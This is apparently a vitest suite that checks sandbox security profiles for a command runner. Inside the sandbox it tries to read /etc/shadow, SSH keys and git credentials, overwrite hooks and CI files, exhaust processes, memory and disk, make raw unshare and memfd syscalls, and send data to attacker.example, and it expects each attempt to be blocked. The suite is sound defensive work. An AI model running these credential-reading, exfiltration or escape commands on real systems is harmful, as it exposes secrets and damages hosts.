import { execFileSync } from "node:child_process";
import { existsSync, mkdirSync, mkdtempSync, readFileSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import path from "node:path";
import { afterAll, beforeAll, describe, expect, test } from "vitest";
import { probeMachine } from "../../../src/adapters/sandbox/machine.ts";
import { SECURITY_PROFILES } from "../../../src/kernel/security-profiles.ts";
import { stage } from "./stage.ts";

const machine = await probeMachine();
const enforceable = machine.bwrap !== undefined && machine.prlimit !== undefined;
const canary = ["CANARY", "-7f3a9c1e5b2d4860-", "ORCH"].join("");

// Where namespaces are missing, process.test.ts shows that profiles are refused; there is nothing more to see there.
describe.runIf(enforceable)("a profile", () => {
  describe.each(SECURITY_PROFILES.map(({ name }) => name))("%s", (profile) => {
    test("hides this process, its environment and every other one", async () => {
      using s = stage();
      const { stdout } = await s.run("cat /proc/*/environ 2>/dev/null | tr '\\0' '\\n'; ls /proc | grep -c '^[0-9]'", {
        profile,
      });
      expect(stdout).not.toContain("VITEST");
      expect(Number(stdout.trim().split("\n").at(-1))).toBeLessThan(15);
    });

    test("hides home, other workspaces and the rest of the disk", async () => {
      using s = stage({ env: { PATH: process.env["PATH"], HOME: "/root" } });
      const other = mkdtempSync(path.join(s.root, "other-"));
      writeFileSync(path.join(other, "secret"), canary);
      writeFileSync(path.join(s.workspace, "link"), "");
      symlinkSync(path.join(other, "secret"), path.join(s.workspace, "outside"));
      const { stdout, stderr } = await s.run(
        `cat ${other}/secret outside ~/.netrc ~/.npmrc /root/.bashrc /etc/shadow /etc/gitconfig; ls -A ~ /root/.ssh /home /mnt /srv /var/lib`,
        { profile },
      );
      expect(stdout).not.toContain(canary);
      expect(stderr).toContain(`cat: ${other}/secret: No such file or directory`);
      expect(stdout.replaceAll(/^\/.*:$/gm, "").trim()).toBe("");
    });

    test("hides credentials in the git configuration and the run's own journal, and keeps git working", async () => {
      using s = stage();
      const git = (...args: string[]): void => void execFileSync("git", ["-C", s.workspace, ...args]);
      git("config", "http.https://github.com/.extraheader", `AUTHORIZATION: basic ${canary}`);
      git("remote", "add", "origin", `https://x:${canary}@github.com/o/r.git`);
      mkdirSync(path.join(s.workspace, ".git/pawl"));
      writeFileSync(path.join(s.workspace, ".git/pawl/runs.db"), canary);
      const { stdout, exitCode } = await s.run(
        "cat .git/config; cat .git/pawl/* 2>/dev/null; git config --list; git remote -v; git status --short",
        { profile },
      );
      expect(stdout).not.toContain(canary);
      expect(stdout).toContain("https://github.com/o/r.git");
      expect(stdout).toContain("?? a.txt");
      expect(exitCode).toBe(0);
    });

    test("never lets .git be written", async () => {
      using s = stage();
      const before = readFileSync(path.join(s.workspace, ".git/config"), "utf8");
      await s.run(
        "echo x >> .git/config; echo x > .git/hooks/pre-commit; git config core.hooksPath /tmp; rm -rf .git",
        { profile },
      );
      expect(readFileSync(path.join(s.workspace, ".git/config"), "utf8")).toBe(before);
      expect(existsSync(path.join(s.workspace, ".git/hooks/pre-commit"))).toBe(false);
    });

    test("lets nothing be written outside the workspace and the step's own directory", async () => {
      using s = stage();
      const outside = mkdtempSync(path.join(s.root, "outside-"));
      await s.run(
        `echo x > ${outside}/x; echo x > /usr/x; echo x > /etc/x; echo x > /opt/x; echo mine > ${s.temporary}/x; echo x > /tmp/x`,
        { profile },
      );
      expect(existsSync(path.join(outside, "x"))).toBe(false);
      expect(existsSync("/usr/x")).toBe(false);
      expect(existsSync("/etc/x")).toBe(false);
      expect(readFileSync(path.join(s.temporary, "x"), "utf8")).toBe("mine\n");
    });

    test("drops every capability and gains no privilege", async () => {
      using s = stage();
      const { stdout } = await s.run("grep -E 'CapEff|NoNewPrivs' /proc/self/status", { profile });
      expect(stdout).toMatch(/CapEff:\s+0000000000000000/);
      expect(stdout).toMatch(/NoNewPrivs:\s+1/);
    });
  });

  test("what the workspace itself shares with another is readable, and stays as it is", async () => {
    using s = stage();
    const shared = mkdtempSync(path.join(s.root, "shared-"));
    writeFileSync(path.join(shared, "package.js"), "shared\n");
    symlinkSync(shared, path.join(s.workspace, "node_modules"));
    const { stdout } = await s.run("cat node_modules/package.js; echo x > node_modules/new", {
      profile: "restricted",
      readable: [shared],
    });
    expect(stdout).toBe("shared\n");
    expect(existsSync(path.join(shared, "new"))).toBe(false);
  });

  test("minimal leaves the workspace as it is; the others may write it", async () => {
    for (const { name, workspace } of SECURITY_PROFILES) {
      using s = stage();
      const { exitCode } = await s.run("echo b > b.txt", { profile: name });
      expect([name, exitCode === 0, existsSync(path.join(s.workspace, "b.txt"))]).toEqual([
        name,
        workspace === "write",
        workspace === "write",
      ]);
    }
  });

  test.each(["hardened", "paranoid"])(
    "%s keeps the repository's automation as it is, existing or not",
    async (profile) => {
      using s = stage();
      mkdirSync(path.join(s.workspace, ".github"));
      writeFileSync(path.join(s.workspace, ".github/ci.yml"), "before\n");
      const { violations } = await s.run(
        "echo after > .github/ci.yml; mkdir .claude && echo x > .claude/settings.json; echo ok > ok.txt",
        { profile },
      );
      expect(readFileSync(path.join(s.workspace, ".github/ci.yml"), "utf8")).toBe("before\n");
      expect(existsSync(path.join(s.workspace, ".claude"))).toBe(false);
      expect(existsSync(path.join(s.workspace, "ok.txt"))).toBe(true);
      expect(violations).toEqual([expect.stringContaining(".claude")]);
    },
  );

  test("paranoid has no program but those it names, also not through the loader or another path", async () => {
    using s = stage();
    const { stdout } = await s.run(
      "for p in perl curl ssh gcc gdb mount unshare; do command -v $p && echo has $p; done; /proc/self/root/usr/bin/curl --version; /lib64/ld-linux-x86-64.so.2 /usr/bin/perl -v; git --version; echo shell",
      { profile: "paranoid" },
    );
    expect(stdout).toMatch(/^git version .*\nshell\n$/);
  });

  test.each(["restricted", "hardened"])("%s hides programs that reach other machines", async (profile) => {
    using s = stage();
    const { stderr } = await s.run("curl --version; ssh -V; sudo true; unshare --user true", { profile });
    expect(stderr).not.toContain("OpenSSH");
    expect(stderr).toMatch(/unshare: Permission denied/);
  });

  test("a program that takes more processes, memory or disk than allowed is ended with all it started", async () => {
    using s = stage();
    const many = await s.run("for i in $(seq 400); do sleep 60 & done; wait", { profile: "restricted" });
    expect(many).toMatchObject({
      ended: "limit",
      violations: [expect.stringMatching(/^processes: \d+ at once, 128 are allowed$/)],
    });
    const large = await s.run(`node -e 'const all = []; setInterval(() => all.push(Buffer.alloc(1 << 27, 1)), 1)'`, {
      profile: "paranoid",
    });
    expect(large).toMatchObject({
      ended: "limit",
      violations: [expect.stringMatching(/^memory: \d+ MiB in use, 1024 MiB are allowed$/)],
    });
    const file = await s.run("head -c 2000000000 /dev/zero > big; stat -c %s big; rm big", { profile: "restricted" });
    expect(file.stdout).toBe(`${512 * 1024 * 1024}\n`);
  });

  test("memory that belongs to no process has its bounds too: file systems in memory, memory files", async () => {
    using s = stage();
    const script = `for d in / /dev /run /dev/shm /tmp /var/tmp /etc /root /usr/bin .git/pawl; do head -c 70000000 /dev/zero > $d/fill 2>/dev/null; stat -c '%s' $d/fill 2>/dev/null; rm -f $d/fill; done; true`;
    mkdirSync(path.join(s.workspace, ".git/pawl"));
    const { stdout } = await s.run(script, { profile: "minimal" });
    const sizes = stdout.trim().split("\n").map(Number);
    expect(sizes.length).toBeLessThanOrEqual(4);
    expect(Math.max(...sizes)).toBeLessThanOrEqual(64 * 1024 * 1024);
    expect(existsSync(path.join(s.workspace, ".git/pawl/fill"))).toBe(false);
  });

  test.runIf(existsSync("/usr/bin/perl") && process.arch === "x64")(
    "a memory file that no process has mapped counts as memory",
    async () => {
      using s = stage();
      // memfd_create(2), written to piece by piece: 319 is its number on x86-64.
      const script = `perl -e 'my @f; for (1..40) { my $n = "m"; my $fd = syscall(319, $n, 0); open(my $h, ">&=", $fd); print $h "x" x 50_000_000; $h->flush(); push @f, $h } sleep 60'`;
      expect(await s.run(script, { profile: "minimal" })).toMatchObject({
        ended: "limit",
        violations: [expect.stringMatching(/^memory: \d+ MiB in use, 1024 MiB are allowed$/)],
      });
    },
  );

  test.runIf(machine.closable && existsSync("/usr/bin/perl") && process.arch === "x64")(
    "no program makes a user namespace, in which it would have rights of its own",
    async () => {
      using s = stage();
      // unshare(2) with CLONE_NEWUSER, by its number: hiding the program is not the wall.
      const script = `perl -e 'print syscall(272, 0x10000000) == 0 ? "rights" : "none"'`;
      for (const profile of ["standard", "restricted", "development"])
        expect((await s.run(script, { profile })).stdout).toBe("none");
    },
  );

  test("what is written to a file that has no name any more counts as well", async () => {
    using s = stage();
    const script = `cd ${s.temporary}; for n in 1 2; do exec {fd}> f; rm f; head -c 50000000 /dev/zero >&$fd; done; while :; do sleep 1; done`;
    expect(await s.run(script, { profile: "minimal" })).toMatchObject({
      ended: "limit",
      violations: [expect.stringMatching(/^disk: \d+ MiB written, 64 MiB are allowed$/)],
    });
  });

  test("a command that removes the directory it was started in is watched on, and ends by itself", async () => {
    using s = stage();
    const cwd = path.join(s.workspace, "inner");
    mkdirSync(cwd);
    const { exitCode, ended } = await s.run(`rm -r ${cwd}; sleep 0.5`, {
      profile: "restricted",
      cwd,
      workspace: s.workspace,
    });
    expect({ exitCode, ended }).toEqual({ exitCode: 0, ended: undefined });
    expect(existsSync(cwd)).toBe(false);
  });

  test("what others write to the same disk meanwhile is not held against it", async () => {
    using s = stage();
    const script = `echo ready; read line; for i in 1 2 3 4 5; do sleep 0.1; done; echo "$line"`;
    async function* afterTheOthers(): AsyncGenerator<string> {
      await ready.promise;
      writeFileSync(path.join(s.root, "others"), Buffer.alloc(200 * 1024 * 1024, 1));
      yield "went on\n";
    }
    const ready = Promise.withResolvers<void>();
    const result = await s.run(script, {
      profile: "minimal",
      stdin: afterTheOthers(),
      onOutput: () => ready.resolve(),
    });
    expect(result).toMatchObject({ exitCode: 0, stdout: "ready\nwent on\n", violations: [] });
  });

  test("of /tmp it sees a directory of its own that can't be filled, and nothing of anybody else's", async () => {
    using s = stage();
    const foreign = mkdtempSync(path.join("/tmp", "somebody-elses-"));
    try {
      const { stdout, stderr } = await s.run(
        "ls -A /tmp | grep somebody-elses; head -c 100000000 /dev/zero > /tmp/big; stat -c %s /tmp/big",
        { profile: "minimal" },
      );
      expect(stdout).toMatch(/^\d+$/m);
      expect(stdout).not.toContain("somebody-elses");
      expect(Number(stdout)).toBeLessThanOrEqual(64 * 1024 * 1024);
      expect(stderr).toMatch(/File size limit exceeded|No space left/);
    } finally {
      rmSync(foreign, { recursive: true, force: true });
    }
  });

  describe("the network", () => {
    const reached: string[] = [];
    const sink = createServer((request, response) => {
      reached.push(request.url ?? "");
      response.end("reached");
    });
    let port = 0;
    beforeAll(async () => {
      await new Promise<void>((resolve) => void sink.listen(0, "127.0.0.1", resolve));
      ({ port } = sink.address() as AddressInfo);
    });
    afterAll(() => void sink.close());

    const attempts = (port: number): string =>
      [
        `const url = "http://127.0.0.1:${port}/" + process.argv[1];`,
        `const net = require("node:net");`,
        `const raw = new Promise((r) => { const s = net.connect(${port}, "127.0.0.1"); s.on("connect", () => { s.write("GET /raw HTTP/1.0\\r\\n\\r\\n"); setTimeout(r, 200); }); s.on("error", r); });`,
        `Promise.allSettled([fetch(url), raw]).then(([f]) => console.log(f.status === "fulfilled" ? "answer " + f.value.status : "no answer"));`,
      ].join("\n");

    test.each(["minimal", "hardened", "paranoid", "testing", "restricted"])(
      "%s reaches nothing outside",
      async (profile) => {
        using s = stage();
        writeFileSync(path.join(s.workspace, "try.cjs"), attempts(port));
        const { stdout } = await s.run(`node try.cjs ${profile}`, { profile });
        expect(stdout).toBe("no answer\n");
        expect(reached.filter((url) => url.includes(profile) || url === "/raw")).toEqual([]);
      },
    );

    test("standard reaches what its list allows and nothing else, and says what was refused", async () => {
      using s = stage();
      writeFileSync(path.join(s.workspace, "try.cjs"), attempts(port));
      const script = `NO_PROXY= no_proxy= node --use-env-proxy try.cjs standard; node -e 'fetch("https://attacker.example/?d=x").catch(() => console.log("refused"))'`;
      const { stdout, violations } = await s.run(script, { profile: "standard" });
      expect(stdout).toBe("no answer\nrefused\n");
      expect(reached.filter((url) => url.includes("standard"))).toEqual([]);
      expect(violations).toEqual([
        `network: 127.0.0.1:${port} is not among the hosts the profile standard allows`,
        "network: attacker.example:443 is not among the hosts the profile standard allows",
      ]);
    });

    test("an operator may allow one more host and port", async () => {
      using s = stage({ allowedHosts: [`127.0.0.1:${port}`] });
      const script = `NO_PROXY= no_proxy= node --use-env-proxy -e 'fetch("http://127.0.0.1:${port}/allowed").then((r) => r.text()).then(console.log)'`;
      const { stdout, violations } = await s.run(script, { profile: "standard" });
      expect(stdout).toBe("reached\n");
      expect(violations).toEqual([]);
    });

    test("a test suite's own servers work where there is no network", async () => {
      using s = stage();
      const script = `node -e 'const s = require("node:http").createServer((_, r) => r.end("own")).listen(0, () => fetch("http://127.0.0.1:" + s.address().port).then((r) => r.text()).then((t) => { console.log(t); s.close(); }))'`;
      expect((await s.run(script, { profile: "testing" })).stdout).toBe("own\n");
    });
  });

  test("a command behind the egress proxy hears SIGTERM and gives its own exit code", async () => {
    using s = stage();
    expect((await s.run("exit 9", { profile: "standard" })).exitCode).toBe(9);
    const result = await s.run("trap 'echo cleaned; exit 3' TERM; echo ready; sleep 60 & wait", {
      profile: "standard",
      timeoutMs: 800,
      graceMs: 10_000,
    });
    expect(result).toMatchObject({ ended: "timeout", exitCode: 3, stdout: "ready\ncleaned\n" });
  });
});
